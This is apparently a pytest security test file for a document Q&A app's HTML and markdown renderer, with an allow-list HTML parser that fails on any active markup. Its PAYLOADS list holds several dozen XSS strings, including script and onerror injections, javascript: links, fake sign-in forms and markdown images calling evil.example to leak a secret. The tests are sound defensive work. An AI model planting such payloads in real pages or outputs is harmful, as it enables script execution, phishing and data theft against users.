"""Nothing that comes from a document, a file's name, a model or an error may act in the page."""

import re
from html.parser import HTMLParser

import pytest

from app.conversation.turns import Turn
from app.types import Answer, Citation
from app.ui import drawing, library, outcomes, render, sources
from app.ui.job import State
from app.ui.shelf import Holdings
from ingest.report import FileReport
from tests.support.fake_desk import hit, row

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<div style=position:fixed;inset:0>over all</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video poster=//evil.example/x autoplay>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "![x](//evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[here](javascript:alert(1))",
    "[here](https://evil.example/?q=secret)",
    "<https://evil.example>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "</div></details></section><script>alert(1)</script>",
    "</mark><script>alert(1)</script><mark>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u200bscript>alert(1)</script>",
    "${alert(1)} {{alert(1)}} {{{value}}} `${alert(1)}`",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<%= alert(1) %><?php x ?><!--><img src=x onerror=alert(1)>-->",
    "<picture><source srcset=//evil.example/x.png><img></picture>",
    "<input type=image src=//evil.example/x.png>",
    "<a ping=//evil.example href=#>here</a>",
    "<svg><image href=//evil.example/x.png /><use href=//evil.example/x.svg#y /></svg>",
    "<table background=//evil.example/x.png><td background=//evil.example/x.png>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<dialog open>Session expired: sign in</dialog>",
    "<template shadowrootmode=open><style>:host{display:none}</style></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)>",
    "[![x](//evil.example/x.png)](//evil.example)",
    "![x](<//evil.example/x.png> 't')",
    "![x]\n\n[x]: //evil.example/x.png",
    "[1]: https://evil.example\n[1](https://evil.example)",
    "[1](javascript:alert(1)) [2][javascript:alert(1)]",
    "https://evil.example/bare www.evil.example mailto:a@evil.example",
]

PLAIN = "blockquote br code em h4 mark ol pre strong summary table tbody td th thead tr"

BUTTONS = "at document number open page sort stop job earlier turn"
"""What the buttons of the library tell our scripts."""
ALLOWED: dict[str, set[str]] = {
    "a": {"class", "href", "download", "aria-label", "title"},
    "button": {"class", "type", "aria-label", "disabled", *(f"data-{what}" for what in BUTTONS.split())},
    "details": {"class", "id"},
    "div": {"class", "data-found", "data-rows", "tabindex"},
    "nav": {"class", "aria-label"},
    "li": {"class", "value"},
    "p": {"class"},
    "section": {"class", "data-turn"},
    "span": {"aria-hidden", "class", "data-said-all", "data-said-none", "data-said-ticked", "role"},
    "ul": {"class"},
    **{tag: set() for tag in PLAIN.split()},
    "input": {"aria-label", "class", "type", "value"},
    "meter": {"max", "min", "title", "value"},
    "pre": {"tabindex"},
    "td": {"class"},
    "th": {"aria-sort", "class", "scope"},
}
"""Every element and attribute that the page makes out of untrusted text."""


class Strict(HTMLParser):
    """Reads HTML as a browser does, and fails on whatever is not `ALLOWED`."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, f"<{tag}> has come through"
        for name, value in attrs:
            assert name in ALLOWED[tag], f"{name}= on <{tag}> has come through"
            if name == "href":
                assert re.match(r"#source-|original/[0-9a-f]{20}$", str(value))
            if name == "type":
                assert value in ("checkbox", "button")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment has come through: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration has come through: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction has come through: {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> str:
    """The text that a reader sees; fails if the HTML holds anything that is not allowed."""
    parser = Strict()
    parser.feed(html)
    parser.close()
    return parser.text


def squeezed(text: str) -> str:
    return "".join(text.translate(render.INVISIBLE).split())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives_in_an_answer(payload: str) -> None:
    answer = Answer(payload, text=payload, passages=(hit(payload, payload),), model=payload, stage="done")
    _, reply = drawing.messages([Turn(payload, answer, error=payload)])
    assert "alert" not in payload or "alert" in read(reply["content"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_question_is_shown_as_it_was_typed(payload: str) -> None:
    asked, _ = drawing.messages([Turn(payload)])
    assert squeezed(read(asked["content"])) == squeezed(payload)
    assert squeezed(drawing.unmarked(asked["content"])) == squeezed(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives_in_the_sources(payload: str) -> None:
    found = hit(f"before {payload} after", f"{payload}/{payload}.md", 3, payload)
    for quote in (payload, "before", ""):
        cited = (Citation(1, payload, 3, quote),)
        turn = Turn(payload, Answer(payload, passages=(found,), citations=cited, stage="done"))
        assert squeezed(payload) in squeezed(read(sources.panel([turn])))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives_in_the_library(payload: str) -> None:
    rows = [row(f"{payload}/{payload}.md", title=payload)]
    read(library.summary(rows) + library.table(Holdings(tuple(rows)), choosing=True) + library.confirmation(rows))
    read(outcomes.outcome(State((FileReport(payload, "failed", (payload,)),), payload, payload)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("2 * 3 * 4 and a_b_c", "<p>2 * 3 * 4 and a_b_c</p>"),
        ("# Title\ntext", "<h4>Title</h4><p>text</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. c\n4. d", '<ol><li value="3">c</li><li value="4">d</li></ol>'),
        ("> said", "<blockquote>said</blockquote>"),
        ("```py\na <b>\n\n**x**\n```\nafter", "<pre><code>a &lt;b&gt;\n\n**x**</code></pre><p>after</p>"),
        ("```\nnot closed yet", "<pre><code>not closed yet</code></pre>"),
        ("use `a<b` here", "<p>use <code>a&lt;b</code> here</p>"),
        ("[text](https://example.org)", "<p>[text](https://example.org)</p>"),
        ("", ""),
    ],
)
def test_the_small_markdown(text: str, html: str) -> None:
    assert render.markdown(text) == html


def test_citations_become_anchors_only_where_there_is_such_a_passage() -> None:
    def cite(number: int) -> str:
        return f"<{number}>" if number <= 2 else ""

    assert render.markdown("a [1] b [1, 2] c [3] d [1, 3] `[1]`", cite) == (
        "<p>a <1> b <1><2> c [3] d [1, 3] <code>[1]</code></p>"
    )
    assert render.cited("a [1] b [2, 4]") == {1, 2, 4}


def test_a_name_hides_nothing() -> None:
    assert render.name("cv\u202efdp.exe\n\x00") == "cv\\u202efdp.exe\\u000a\\u0000"


def test_long_runs_of_marks_take_no_time() -> None:
    # Quadratic matching would take minutes: the timeout of the test run is the assertion.
    for text in ("*" * 60_000, "`" * 60_000, "[1" * 60_000, "**a" * 30_000, "> " * 30_000):
        render.markdown(text)
